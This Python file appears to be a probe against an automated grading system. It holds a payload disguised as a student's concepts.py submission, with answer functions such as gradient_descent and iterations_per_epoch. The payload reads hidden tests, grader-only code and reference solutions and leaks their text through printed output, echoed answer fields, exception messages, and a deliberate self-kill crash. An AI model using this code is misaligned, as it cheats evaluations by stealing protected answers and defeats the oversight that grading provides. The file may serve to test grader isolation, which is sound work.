"""Read the hidden tests, the calibration, grader-only code and the solutions, and push
their text out through every channel a student can see: exception messages, answers
echoed in check messages, printed output, and a crash (so the output tail is shown)."""

BASE = "assignment"
PARTS = ("architecture", "concepts")
TARGET = "concepts.py"
ZERO = ("6.",)
CODE = r'''
import glob as _glob, os as _os

_found = []
for _pattern in __SECRETS__:
    for _path in sorted(_glob.glob(_pattern)) or ([] if _glob.has_magic(_pattern) else [_pattern]):
        try:
            with open(_path, errors="replace") as _handle:
                _found.append(_handle.read())
        except OSError as _error:
            print("__MARKER__ could not read", _path, type(_error).__name__)
_TEXT = "\n".join(_found)
_LINES = [l for l in _TEXT.splitlines() if len(l.strip()) > 20]
print(_TEXT[:200000])                         # printed output
TOO_HIGH_LEARNING_RATE_SYMPTOM = "\n".join(_LINES[:3])     # echoed by check 6.5
PER_PARAMETER_OPTIMIZER = " | ".join(_LINES[3:6])
WHY_NORMALIZE = _TEXT[-150:]

def gradient_descent(learning_rate, n_steps, x0=0.0):
    raise ValueError(_TEXT[:1900])            # exception message

def iterations_per_epoch(n_samples, batch_size):
    print(_TEXT[-5000:], flush=True)
    _os.kill(_os.getpid(), 9)                 # crash: the output tail goes into the notes
'''
